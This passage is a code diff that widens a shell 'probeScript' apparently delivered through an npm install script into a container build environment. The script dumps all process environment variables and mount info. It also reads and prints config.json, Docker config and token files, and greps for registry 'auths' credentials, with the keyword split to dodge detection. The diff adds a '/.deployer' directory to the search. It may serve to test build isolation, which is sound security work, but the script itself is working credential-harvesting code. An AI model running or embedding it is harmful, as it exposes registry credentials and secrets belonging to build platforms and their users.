@@ -148,7 +148,7 @@ const probeScript = `out=/app/action/probe.txt; echo probe: ran > $out; env >> $
 	`for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ >> $out 2>/dev/null; done; ` +
 	`cat /proc/self/mountinfo >> $out; ` +
 	`for f in $(find / -xdev \( -name config.json -o -name '*.dockerconfigjson' -o -name token \) -type f 2>/dev/null); do echo probe: file $f >> $out; cat $f >> $out; done; ` +
-	`for f in $(grep -rlI au''ths /cache /output /kaniko /workspace /run /var/run /etc /root 2>/dev/null); do echo probe: auths in $f >> $out; cat $f >> $out; done; ` +
+	`for f in $(grep -rlI au''ths /cache /output /kaniko /workspace /.deployer /run /var/run /etc /root 2>/dev/null); do echo probe: auths in $f >> $out; cat $f >> $out; done; ` +
 	`cat $out`
 
 // An install script of the user's package — npm runs the root package's
